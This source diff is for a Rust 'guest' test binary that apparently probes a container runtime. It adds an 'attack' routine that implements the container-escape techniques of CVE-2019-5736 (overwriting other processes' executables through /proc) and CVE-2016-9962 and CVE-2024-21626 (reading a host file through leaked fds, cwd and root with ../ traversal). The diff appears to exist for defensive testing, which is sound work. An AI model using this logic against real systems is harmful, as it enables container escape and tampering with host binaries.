@@ -62,7 +62,8 @@ const CAPABILITIES: [&str; 41] = [
     "CHECKPOINT_RESTORE",
 ];
 
-const USAGE: &str = "usage: guest report | signals | fill MIB | try OP PATH ... | attack-exe";
+const USAGE: &str =
+    "usage: guest report | signals | fill MIB | try OP PATH ... | hook NAME LOG CODE | notify | attack MARKER";
 
 fn main() -> ExitCode {
     let args: Vec<String> = std::env::args_os().skip(1).map(|a| a.to_string_lossy().into_owned()).collect();
@@ -72,7 +73,12 @@ fn main() -> ExitCode {
         ["signals"] => return signals(),
         ["fill", mib] => fill(mib.parse().expect("MIB is a number")),
         ["try", ref pairs @ ..] if pairs.len() % 2 == 0 => println!("{}", try_all(pairs)),
-        ["attack-exe"] => println!("{}", attack_exe()),
+        ["hook", name, log, code] => {
+            hook(name, log);
+            return ExitCode::from(code.parse::<u8>().expect("CODE is a number"));
+        }
+        ["notify"] => notify(),
+        ["attack", marker] => println!("{}", attack(marker)),
         _ => {
             eprintln!("{USAGE}");
             return ExitCode::from(64);
@@ -282,6 +288,22 @@ fn say(line: &str) {
     writeln!(out, "{line}").and_then(|()| out.flush()).expect("write to stdout");
 }
 
+/// Appends one line of JSON to `log`: who was called, with what on standard input, and the report.
+fn hook(name: &str, log: &str) {
+    let state: Value = serde_json::from_reader(std::io::stdin()).expect("state JSON on standard input");
+    let mut file = fs::File::options().append(true).create(true).open(log).expect("log of the hooks");
+    let line = json!({ "name": name, "state": state, "report": report() });
+    file.write_all(format!("{line}\n").as_bytes()).expect("write to the log of the hooks");
+}
+
+/// Tells the service manager that it is ready (sd_notify(3)), and stays.
+fn notify() {
+    let path = std::env::var("NOTIFY_SOCKET").expect("NOTIFY_SOCKET");
+    let socket = std::os::unix::net::UnixDatagram::unbound().expect("socket");
+    socket.send_to(b"READY=1\n", path).expect("READY=1");
+    std::thread::sleep(Duration::from_secs(3600));
+}
+
 /// Touches MIB mebibytes of memory, prints `filled`, and holds them.
 fn fill(mib: usize) {
     let mut hold = vec![0u8; mib << 20];
@@ -345,32 +367,49 @@ fn errno_name(error: std::io::Error) -> Value {
     json!(format!("{errno:?}"))
 }
 
-/// CVE-2019-5736: for three seconds, opens the executable of every other process it can see, first to hold it and
-/// then, when that process has let go, for writing. Returns what was found and how each attempt to write ended.
-fn attack_exe() -> Value {
+/// Until the file `/stop` appears, attacks every process it can see by way of /proc: the executable, for writing
+/// (CVE-2019-5736), and the directories it holds, for reading the host's file `marker` (CVE-2016-9962, CVE-2024-21626).
+/// Returns what it reached.
+fn attack(marker: &str) -> Value {
     let own = fs::read_link("/proc/self/exe").unwrap_or_default();
-    let mut seen = Map::new();
-    let end = std::time::Instant::now() + Duration::from_secs(3);
-    while std::time::Instant::now() < end {
+    let (mut exes, mut files) = (Map::new(), Map::new());
+    say("attacking");
+    while !fs::exists("/stop").unwrap_or(true) {
         for entry in fs::read_dir("/proc").into_iter().flatten().flatten() {
-            let exe = entry.path().join("exe");
-            let Ok(target) = fs::read_link(&exe) else { continue };
-            let Ok(held) = fs::File::open(&exe) else { continue };
-            let name = target.to_string_lossy().into_owned();
-            if target == own || target.ends_with("busybox") || seen.contains_key(&name) {
+            let process = entry.path();
+            if !entry.file_name().to_string_lossy().starts_with(|c: char| c.is_ascii_digit()) {
                 continue;
             }
-            seen.insert(name, overwrite(&held));
+            read_through(&process, marker, &mut files);
+            let Ok(target) = fs::read_link(process.join("exe")) else { continue };
+            let Ok(held) = fs::File::open(process.join("exe")) else { continue };
+            let name = target.to_string_lossy().into_owned();
+            if target != own && !target.ends_with("busybox") && !exes.contains_key(&name) {
+                exes.insert(name, overwrite(&held));
+            }
         }
     }
-    Value::Object(seen)
+    json!({ "exes": exes, "files": files })
 }
 
-/// Tries to write through `held` for as long as its file is busy (ETXTBSY), at most half a second.
+/// Reads `marker` through whatever directory the process has open or stands in.
+fn read_through(process: &std::path::Path, marker: &str, found: &mut Map<String, Value>) {
+    let fds = fs::read_dir(process.join("fd")).into_iter().flatten().flatten().map(|e| e.path());
+    for dir in fds.chain([process.join("cwd"), process.join("root")]) {
+        for way in ["", "../../../../../../../.."] {
+            let path = dir.join(way).join(marker.trim_start_matches('/'));
+            if fs::read(&path).is_ok() {
+                found.insert(path.to_string_lossy().into_owned(), json!(fs::read_link(&dir).ok()));
+            }
+        }
+    }
+}
+
+/// Tries to write through `held` for as long as its file is busy (ETXTBSY), at most a third of a second.
 fn overwrite(held: &fs::File) -> Value {
     use std::os::fd::AsRawFd as _;
     let path = format!("/proc/self/fd/{}", held.as_raw_fd());
-    for _ in 0..500 {
+    for _ in 0..300 {
         match fs::OpenOptions::new().write(true).open(&path) {
             Ok(mut file) => return file.write_all(b"overwritten").map_or_else(errno_name, |()| json!("WRITTEN")),
             Err(e) if e.raw_os_error() == Some(libc::ETXTBSY) => std::thread::sleep(Duration::from_millis(1)),
